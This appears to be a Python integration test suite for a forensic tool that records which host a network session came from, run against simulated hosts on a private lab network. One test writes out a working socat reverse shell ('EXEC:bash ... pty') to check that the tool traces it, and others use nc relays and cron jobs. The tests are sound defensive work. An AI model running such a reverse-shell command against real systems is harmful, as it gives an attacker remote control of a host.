#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""What a record says of a session's origin is true: no stranger is named, and what is not known is not denied."""
import os
from pathlib import Path

import harness
import hosts
from terminal import Terminal

ADDRESSES = {"a": "172.16.0.2", "b": "10.10.0.2", "d": "172.16.0.3"}
# Takes connections on a port, keeps them all, and passes on to a target what any of them sends.
RELAY = """
import select, socket, sys
listener = socket.create_server(("", int(sys.argv[1])))
out = socket.create_connection((sys.argv[2], int(sys.argv[3])))
clients = []
while True:
    for ready in select.select([listener, *clients], [], [])[0]:
        if ready is listener:
            clients.append(listener.accept()[0])
        else:
            data = ready.recv(4096)
            out.sendall(data) if data else clients.remove(ready)
"""


class Origins(hosts.TestCase):
    def hosts(self, *settings, programs=("nc", "ssh", "sshd", "socat")):
        network = self.network(ADDRESSES, programs)
        network["b"].start_stopd(*settings)
        network["b"].start_sshd()
        network["d"].start("nc", "-l", "-k", "-p", "9000")
        network["d"].await_port(9000)
        return network

    def login(self, network, user="alice"):
        """Somebody on a, logged in to b."""
        terminal = Terminal(network["a"].command(["ssh", ADDRESSES["b"]], user))
        self.addCleanup(terminal.close)
        terminal.expect("b> ")
        return terminal

    def record(self, network, address=ADDRESSES["d"], port=9000):
        """The record of b's connection to there, and what it says to people."""
        b = network["b"]
        own = b.connection_to(address, port)
        token = network.token(b, f"{own},{port}", "--about", address, "--type", "SV")
        return b.redeem(token)["record"], b.stopd("redeem", token).out

    def not_seen(self, record):
        return {each["what"]: each for each in record.get("not_seen", [])}

    def others(self, record, why):
        return [each["remote"].rsplit(":", 1)[0] if each["direction"] != "outbound" else each["remote"]
                for each in record.get("other_connections", []) if each["why"] == why]

    def users(self, record):
        return {process["user"] for process in record["processes"]}

    def test_other_clients_of_a_service_are_not_named_as_the_origin(self):
        network = self.hosts()
        b, d = network["b"], network["d"]
        b.start("python3", "-m", "http.server", "6379", user="www-data")
        b.await_port(6379)
        alice = self.login(network)
        alice.line("nc 127.0.0.1 6379", "nc 127.0.0.1 6379")
        d.start("nc", ADDRESSES["b"], "6379", stdin=-1)  # a client of the web server
        b.start("sh", "-c", f"sleep 1000 | nc 127.0.0.1 6379 | nc {d.address} 9000", user="bob")
        hosts.wait_for(lambda: b.run("ss", "-Htn", "sport = :6379").out.count("ESTAB") >= 3, "all three are clients")
        record, text = self.record(network)
        self.assertNotIn("previous_hosts", record)
        self.assertNotIn("alice", self.users(record))
        self.assertEqual(self.not_seen(record)["same_service"]["count"], 2)
        self.assertEqual(self.others(record, "same_service"), [d.address])
        self.assertIn("WHERE THE SESSION CAME FROM\n  not known", text)
        self.assertIn("a service with other clients", text)
        self.assertIn("of another client of a service that the session uses", text)
        self.assertNotIn(network["a"].address, text)

    def test_hosts_that_a_service_of_the_system_hears_from_are_none_of_a_sessions(self):
        network = self.hosts(f"walk.services=[{Path('/usr/bin/python3').resolve()}]")
        b, d = network["b"], network["d"]
        b.start("/usr/bin/python3", "-m", "http.server", "6379", user="www-data")
        b.await_port(6379)
        d.start("nc", ADDRESSES["b"], "6379", stdin=-1)
        b.start("sh", "-c", f"sleep 1000 | nc 127.0.0.1 6379 | nc {d.address} 9000", user="bob")
        hosts.wait_for(lambda: b.run("ss", "-Htn", "sport = :6379").out.count("ESTAB") >= 2, "both are clients")
        record, _ = self.record(network)
        self.assertNotIn("previous_hosts", record)
        self.assertEqual([p["not_followed"] for p in record["processes"] if p["name"] == "python3"], ["service"])
        self.assertEqual(self.others(record, "same_service"), [d.address])

    def test_the_origin_of_a_reverse_shell_is_listed(self):
        network = self.hosts()
        a, b = network["a"], network["b"]
        attacker = Terminal(a.command(["socat", "-", "TCP-LISTEN:9001,reuseaddr"]))
        self.addCleanup(attacker.close)
        a.await_port(9001)
        b.start("socat", f"TCP:{a.address}:9001", "EXEC:bash --norc -i,pty,setsid,ctty", user="bob")
        attacker.line("nc 172.16.0.3 9000", "nc 172.16.0.3 9000")
        record, text = self.record(network)
        self.assertNotIn("previous_hosts", record)
        self.assertEqual(self.others(record, "outbound"), [f"{a.address}:9001"])
        self.assertIn("opened by this host, by a process on the way", text)
        self.assertNotIn("began here", text)

    def test_a_job_that_outlived_its_login_is_not_said_to_have_begun_here(self):
        network = self.hosts()
        alice = self.login(network)
        alice.line("setsid nohup sh -c 'sleep 1000 | nc 172.16.0.3 9000' </dev/null >/dev/null 2>&1 &", "b> ")
        network["b"].connection_to(ADDRESSES["d"], 9000)
        hosts.wait_for(lambda: network["b"].run("pgrep", "-x", "setsid").code != 0, "nobody is left of the login")
        record, text = self.record(network)
        self.assertNotIn("previous_hosts", record)
        self.assertEqual(self.others(record, "same_user"), [network["a"].address])
        self.assertTrue(all(p["ssh_connection"].startswith(network["a"].address)
                            for p in record["processes"] if p["user"] == "alice"))
        self.assertIn("WHERE THE SESSION CAME FROM\n  not known", text)
        self.assertIn("of the same user at that time; no path to it was found", text)
        self.assertIn(f"claims (SSH_CONNECTION): {network['a'].address}", text)

    def test_of_several_clients_of_a_relay_each_is_named_as_one_of_them(self):
        network = self.hosts()
        b = network["b"]
        b.start("python3", "-c", RELAY, "8888", ADDRESSES["d"], "9000", user="bob")
        b.await_port(8888)
        for name in ("a", "d"):
            network[name].start("nc", ADDRESSES["b"], "8888", stdin=-1)
        hosts.wait_for(lambda: b.run("ss", "-Htn", "sport = :8888").out.count("ESTAB") >= 2, "both are clients")
        record, text = self.record(network)
        self.assertEqual({each["remote"].rsplit(":", 1)[0] for each in record["previous_hosts"]},
                         {network["a"].address, network["d"].address})
        self.assertEqual([each["one_of"] for each in record["previous_hosts"]], [2, 2])
        self.assertIn("one of 2 connections to that port: which of them is not known", text)

    def test_the_path_to_a_previous_host_is_told(self):
        network = self.hosts()
        alice = self.login(network)
        alice.line("nc 172.16.0.3 9000", "nc 172.16.0.3 9000")
        record, text = self.record(network)
        [previous] = record["previous_hosts"]
        names = {process["pid"]: process["name"] for process in record["processes"]}
        self.assertEqual(names[previous["path"][0]], "nc")
        self.assertEqual(previous["path"][-1], previous["pid"])
        self.assertEqual(names[previous["pid"]], "sshd")
        self.assertNotIn("shared", previous)
        self.assertRegex(text, r"held by \d+ sshd, \d steps? from the connection: \d+ nc, ")

    def test_datagrams_are_named_as_a_way_in(self):
        network = self.hosts()
        b = network["b"]
        b.start("sh", "-c", "socat -u UDP-RECV:9999 STDOUT | nc 172.16.0.3 9000", user="bob")
        record, text = self.record(network)
        self.assertNotIn("previous_hosts", record)
        self.assertEqual(self.not_seen(record)["datagrams"]["detail"], "udp 0.0.0.0:9999")
        self.assertIn("datagrams do not tell who sends them (udp 0.0.0.0:9999)", text)

    def test_shells_of_other_users_on_the_way_are_told(self):
        network = self.hosts()
        alice = self.login(network)
        alice.line("su bob", "b> ")
        alice.line("nc 172.16.0.3 9000", "nc 172.16.0.3 9000")
        record, _ = self.record(network)
        self.assertEqual(record["processes"][0]["user"], "bob")
        self.assertIn("alice", self.users(record))
        self.assertEqual([each["remote"].rsplit(":", 1)[0] for each in record["previous_hosts"]], [network["a"].address])

    def test_sudo_is_on_the_path(self):
        network = self.hosts(programs=("nc", "ssh", "sshd", "sudo"))
        b = network["b"]
        rules = self.file("sudoers", b"alice ALL=(bob) NOPASSWD: ALL\nDefaults use_pty\n")
        rules.chmod(0o440)
        self.assertEqual(b.run("mount", "--bind", rules, "/etc/sudoers").code, 0)
        alice = self.login(network)
        alice.line("sudo -u bob nc 172.16.0.3 9000", "sudo -u bob nc 172.16.0.3 9000")
        record, _ = self.record(network)
        self.assertEqual(record["processes"][0]["user"], "bob")
        self.assertIn("sudo", [process["name"] for process in record["processes"]])
        self.assertEqual([each["remote"].rsplit(":", 1)[0] for each in record["previous_hosts"]], [network["a"].address])

    def test_a_job_of_cron_names_nobody(self):
        network = self.hosts(programs=("nc", "ssh", "sshd", "cron"))
        b = network["b"]
        spool = self.folder / "spool"
        (spool / "crontabs").mkdir(parents=True)
        (spool / "crontabs/alice").write_text("* * * * * sleep 1000 | nc 172.16.0.3 9000\n")
        (spool / "crontabs/alice").chmod(0o600)
        os.chown(spool / "crontabs/alice", hosts.USERS["alice"], hosts.USERS["alice"])
        self.assertEqual(b.run("mount", "--bind", spool, "/var/spool/cron").code, 0)
        self.login(network)  # of the same user, and has nothing to do with it
        b.start("cron", "-f")
        hosts.wait_for(lambda: "9000" in b.run("ss", "-Htn", "state", "established").out, "cron has started the job", 70)
        record, text = self.record(network)
        self.assertNotIn("previous_hosts", record)
        self.assertIn("cron", [process["name"] for process in record["processes"]])
        self.assertEqual(self.others(record, "same_user"), [network["a"].address])
        self.assertIn("WHERE THE SESSION CAME FROM\n  not known", text)

    def test_a_crowd_of_holders_does_not_hide_the_login(self):
        network = self.hosts()
        script = Path(network.home("alice")) / "crowd.py"
        script.write_text("""
import os, socket, time
held = socket.create_connection(("172.16.0.3", 9000))
for i in range(300):
    if os.fork() == 0:
        if i % 2:
            os.pipe()  # half of them differ
        time.sleep(1000)
time.sleep(1000)
""")
        alice = self.login(network)
        script.chmod(0o644)
        alice.line(f"python3 {script}", "crowd.py")
        b = network["b"]
        hosts.wait_for(lambda: b.run("pgrep", "-c", "-f", "crowd.py").out.strip() == "301", "all hold it")
        record, text = self.record(network)
        self.assertEqual([each["remote"].rsplit(":", 1)[0] for each in record["previous_hosts"]], [network["a"].address])
        self.assertIn("more processes just like it", text)


if __name__ == "__main__":
    harness.main()
